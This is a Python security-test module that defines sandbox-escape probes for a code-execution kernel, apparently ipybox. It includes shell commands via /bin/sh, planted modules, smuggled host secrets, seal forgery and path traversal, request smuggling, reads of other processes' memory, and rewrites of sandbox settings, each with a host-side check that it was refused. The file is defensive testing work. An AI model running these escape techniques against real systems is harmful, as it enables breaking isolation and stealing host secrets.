"""Code of a kernel that tries to cross the boundary, and how the host tells that it has."""

import json
import shlex
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests import servers
from tests.security import guests
from tests.security.boundary.sides import SECRET, Side


def marked(side: Side, _: str) -> bool:
    return side.mark.exists()


def visited(side: Side, _: str) -> bool:
    return side.door.visits > 0


def revealed(_: Side, text: str) -> bool:
    return SECRET in text


def answered(_: Side, text: str) -> bool:
    return guests.REACHED in text


@dataclass(frozen=True)
class Probe:
    """Code of a kernel, and how to tell on the host that it has reached what it wants."""

    area: str
    name: str
    code: str
    reached: Callable[[Side, str], bool] = marked
    prepare: Callable[[Side], None] = field(default=lambda _: None)
    outcome: str = "refused"


PARAMS = "launch parameters"
SENDS = """
params, seal = guests.registered()[NAME].values()
print(guests.call(NAME, {**params, **CHANGE}, seal, tool=TOOL))
"""


def changed(name: str, change: str, tool: str = "echo") -> str:
    return SENDS.replace("NAME", repr(name)).replace("CHANGE", change).replace("TOOL", repr(tool))


def edit_package(side: Side) -> None:
    shutil.copytree(side.workspace / "mcptools" / "tools", side.workspace / "edited", dirs_exist_ok=True)


PROBES_OF_PARAMS = [
    Probe(
        PARAMS,
        "parameters that nobody has registered",
        "print(guests.call('new', {'command': '/bin/sh', 'args': ['-c', f'touch {OUTSIDE}/mark']}, None))",
    ),
    Probe(
        PARAMS,
        "another command under a registered seal",
        changed("scripted", "{'command': '/bin/sh', 'args': ['-c', f'touch {OUTSIDE}/mark']}"),
    ),
    Probe(PARAMS, "other arguments", changed("relative", "{'args': ['-c', f'touch {OUTSIDE}/mark']}")),
    Probe(
        PARAMS,
        "another argument at the end",
        changed("scripted", "{'args': [*params['args'], '--log', f'{OUTSIDE}/mark']}"),
    ),
    Probe(
        PARAMS,
        "an environment that makes the interpreter run a planted module",
        "os.makedirs('planted', exist_ok=True)\n"
        "open('planted/json.py', 'w').write(f\"open('{OUTSIDE}/mark', 'w')\")\n"
        + changed("scripted", "{'env': {'PYTHONPATH': os.path.abspath('planted')}}"),
    ),
    Probe(PARAMS, "another working directory", changed("relative", "{'cwd': OUTSIDE}")),
    Probe(
        PARAMS,
        "a URL in place of a command",
        "print(guests.call('scripted', {'url': f'http://127.0.0.1:{DOOR}/mcp'},"
        " guests.registered()['scripted']['seal']))",
        visited,
    ),
    Probe(PARAMS, "another URL", changed("remote", "{'url': f'http://127.0.0.1:{DOOR}/mcp'}"), visited),
    Probe(
        PARAMS,
        "headers with a secret of the host for another URL",
        changed("remote", "{'url': f'http://127.0.0.1:{DOOR}/mcp', 'headers': {'X': '${HOST_SECRET}'}}"),
        visited,
    ),
    Probe(
        PARAMS,
        "a package that was edited on disk",
        """
import importlib, pathlib, sys
file = pathlib.Path("edited/__init__.py")
file.write_text(file.read_text().replace("CLIENT = ", f"_ = ") + f'''
SHELL = {{"command": "/bin/sh", "args": ["-c", "touch {OUTSIDE}/mark"]}}
CLIENT = ToolRunner.from_env("tools", SHELL, vars(_)["_seal"])
''')
sys.modules.pop("edited", None); importlib.invalidate_caches()
import edited
edited.CLIENT.run_sync("echo", {"text": "x"})
""",
        prepare=edit_package,
    ),
    Probe(
        PARAMS,
        "a package of another workspace",
        "entry = json.load(open('elsewhere.json'))['marker']\n"
        "print(guests.call('marker', entry['params'], entry['seal']))",
    ),
    Probe(
        PARAMS,
        "a package of another workspace whose seal's place climbs there",
        """
entry = json.load(open("elsewhere.json"))["marker"]
mac = entry["seal"].rpartition(":")[2]
elsewhere = os.path.join(os.path.dirname(os.getcwd()), "elsewhere", "mcptools")
os.path.lexists("way") or os.symlink(os.path.dirname(elsewhere), "way")
for place in ("../elsewhere/mcptools", elsewhere, "./../elsewhere/mcptools", "x/../../elsewhere/mcptools",
              "way/mcptools", "//" + elsewhere,
              "", "/" * 100_000, "a/" * 100_000, "mcptools\\0/../..", "..\\\\elsewhere"):
    print(guests.call("marker", entry["params"], f"{place}:{mac}")[:200])
""",
    ),
    Probe(
        PARAMS,
        "the seal of another server",
        "guests.tell('hello' in guests.call('relative', guests.registered()['scripted']['params'],"
        " guests.registered()['scripted']['seal']))",
        answered,
    ),
    Probe(
        PARAMS,
        "a seal made in the kernel",
        """
import pathlib
from ipybox.workspace.seal import seal
params = {"command": "/bin/sh", "args": ["-c", f"touch {OUTSIDE}/mark"]}
for state in (os.environ.get("XDG_STATE_HOME"), STATE, os.path.expanduser("~/.local/state")):
    if state:
        os.environ["XDG_STATE_HOME"] = state
        try:
            made = seal("new", params, pathlib.Path.cwd() / "mcptools")
        except OSError as exc:
            print(exc)
        else:
            print(guests.call("new", params, made))
""",
    ),
    Probe(
        PARAMS,
        "a variable of the host smuggled into the arguments",
        changed("scripted", "{'env': {'STOLEN': '${HOST_SECRET}'}}", "env"),
        revealed,
    ),
    Probe(
        PARAMS,
        "a variable of the host smuggled into a server's own words",
        changed("scripted", "{'command': '/bin/sh', 'args': ['-c', 'echo ${HOST_SECRET} | rev >&2; exit 1']}"),
        lambda _, text: SECRET[::-1] in text,
    ),
]

BESIDE = "servers beside the sandbox"
BESIDE_SERVERS: dict[str, dict[str, Any]] = {
    "module": {"command": sys.executable, "args": ["-m", "mcp_server_time"]},
}
PLANTED = """
import pathlib
pathlib.Path("json.py").write_text(f"open('{OUTSIDE}/mark', 'w').close(); raise SystemExit")
"""
CALLS_BESIDE = """
try:
    print(guests.call_registered(NAME))
finally:
    os.unlink("json.py")
"""


def register_beside(name: str) -> Callable[[Side], None]:
    def prepare(side: Side) -> None:
        file = side.workspace / "registered.json"
        params = BESIDE_SERVERS[name] | {"cwd": str(side.workspace)}
        if not side.sandboxed:  # where ipybox does the same for servers, so that the control goes behind its back
            words = shlex.join([params["command"], *params["args"]])
            params |= {"command": "/bin/sh", "args": ["-c", f"PYTHONSAFEPATH= {words}"]}
        entry = {"params": params, "seal": servers.registered(name, params, side.workspace / "mcptools")}
        file.write_text(json.dumps(json.loads(file.read_text()) | {name: entry}))

    return prepare


def beside(name: str, planted: str) -> Probe:
    code = PLANTED + CALLS_BESIDE.replace("NAME", repr(name))
    return Probe(BESIDE, planted, code, prepare=register_beside(name), outcome="not run")


PROBES_BESIDE = [
    beside("module", "json.py for a server that is a Python module"),
]

ROUTES = "routes of the application"
FINDS_TOKEN = "token = guests.application_token(PORT) or os.environ['TOOL_SERVER_TOKEN']\n"
BOTH_PORTS = """
def everywhere(data):
    return guests.application_sends(PORT, data) + guests.raw(data)
"""


def server_gone(_: Side, text: str) -> bool:
    return not servers.is_alive(int(text.split()[0]))


STARTS = "print(json.loads(guests.call_registered('scripted', 'pid', {}))['content'][0]['text'])\n"

PROBES_OF_ROUTES = [
    Probe(
        ROUTES,
        "reset",
        STARTS
        + FINDS_TOKEN
        + BOTH_PORTS
        + "print(everywhere(guests.head('PUT', '/reset', Authorization=f'token {token}', Content_Length='0')))",
        server_gone,
    ),
    Probe(
        ROUTES,
        "reset hidden in another request, or spelled otherwise",
        STARTS + FINDS_TOKEN + BOTH_PORTS + "for data in guests.smuggled('PUT', '/reset', f'token {token}'):\n"
        "    print(everywhere(data)[:60])",
        server_gone,
    ),
    Probe(
        ROUTES,
        "status",
        FINDS_TOKEN
        + BOTH_PORTS
        + "guests.tell('approval_client' in everywhere(guests.head('GET', '/status', Authorization=f'token {token}'))"
        ")",
        answered,
    ),
    Probe(
        ROUTES,
        "the approval channel",
        FINDS_TOKEN
        + BOTH_PORTS
        + "said = everywhere(guests.upgrade('/approval', f'token {token}'))\n"
        + "guests.tell('another approval client' in said or ' 101 ' in said)",
        answered,
    ),
]

HELD = "what the host holds"
PLACE = "in the gateway's place"
PROBES_OF_WHAT_IS_HELD = [
    Probe(
        HELD,
        "the application's token",
        "guests.tell(guests.application_token(PORT))",
        answered,
        outcome="not readable",
    ),
    Probe(
        HELD,
        "descriptors of the gateway in /proc",
        "guests.tell(os.readlink(f'/proc/{guests.parent()}/fd/1'))",
        answered,
        outcome="not readable",
    ),
    Probe(
        HELD,
        "the link stolen from another process",
        "guests.tell(guests.steal_links())",
        answered,
        outcome="none can be had",
    ),
    Probe(
        HELD,
        "the memory of other processes",
        """
reached = False
for entry, _ in guests.others():
    try:
        with open(entry / "maps") as maps, open(entry / "mem", "rb+", 0) as memory:
            memory.seek(int(maps.readline().partition("-")[0], 16))
            reached = memory.read(4) == b"\x7fELF" or reached
    except OSError:
        pass
guests.tell(reached)
""",
        answered,
        outcome="not readable",
    ),
    Probe(
        HELD,
        "the settings of the sandbox in the workspace",
        """
open("conf/sandbox.json", "w").write('{"filesystem": {"allowWrite": ["/"]}}')
""",
        lambda side, _: (side.workspace / "conf" / "sandbox.json").read_text() != "{}",
        outcome="not writable",
    ),
    Probe(
        HELD,
        "the settings of the sandbox, by moving their directory away",
        """
if os.path.exists("conf/sandbox.json"):
    os.rename("conf", "moved")
os.makedirs("conf", exist_ok=True)
open("conf/sandbox.json", "w").write('{"filesystem": {"allowWrite": ["/", "moved"]}}')
""",
        lambda side, _: "moved" in (side.workspace / "conf" / "sandbox.json").read_text(),
        prepare=lambda side: shutil.rmtree(side.workspace / "moved", ignore_errors=True),
        outcome="not movable",
    ),
    Probe(
        HELD,
        ".env, which the host reads at its next start",
        """
for attempt in (lambda: open(".env", "w").write("X=1"), lambda: os.unlink(".env"),
                lambda: (open("new", "w").write("X=1"), os.replace("new", ".env")), lambda: os.symlink("new", ".env")):
    try:
        attempt()
    except OSError as exc:
        print(exc)
""",
        lambda side, _: (side.workspace / ".env").exists() and (side.workspace / ".env").read_text() != "",
        outcome="not writable",
    ),
    Probe(
        HELD,
        "ipybox's own directory of the workspace",
        """
os.makedirs(".ipybox", exist_ok=True)
for attempt in (lambda: os.makedirs(".ipybox/packages/numpy"), lambda: os.rename(".ipybox", "moved"),
                lambda: os.symlink(OUTSIDE, ".ipybox/link")):
    try:
        attempt()
        guests.tell(True)
    except OSError as exc:
        print(exc)
""",
        answered,
        outcome="not writable",
    ),
    Probe(
        HELD,
        "a directory of images that leads elsewhere",
        """
import base64, shutil
shutil.rmtree("pictures", ignore_errors=True)
os.path.islink("pictures") or os.symlink(OUTSIDE, "pictures")
display({"image/png": base64.b64encode(b"planted").decode()}, raw=True)
""",
        lambda side, _: any(side.outside.glob("*.png")),
        prepare=lambda side: (
            (side.workspace / "pictures").unlink(missing_ok=True)
            if (side.workspace / "pictures").is_symlink()
            else None
        ),
        outcome="not followed",
    ),
]

PROBES = [*PROBES_OF_PARAMS, *PROBES_BESIDE, *PROBES_OF_ROUTES, *PROBES_OF_WHAT_IS_HELD]
